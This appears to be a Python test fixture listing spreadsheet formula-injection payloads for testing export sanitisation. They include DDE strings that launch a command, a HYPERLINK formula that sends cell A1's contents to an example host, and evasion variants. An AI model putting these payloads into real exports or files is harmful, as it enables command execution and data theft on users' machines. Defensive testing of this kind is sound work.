"""Texts that try to be a formula, a link or a program in whatever opens an export."""

from __future__ import annotations

PAYLOADS = (
    "=1+1",
    "+32 470 12 34 56",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A0",
    "|cmd /c calc",
    '=HYPERLINK("http://voorbeeld.be?x="&A1,"klik")',
    "＝1+1",
    "  \u00a0=1+1",
    '"=1+1"',
    '\'=DDE("cmd";"/c calc";"x")',
)
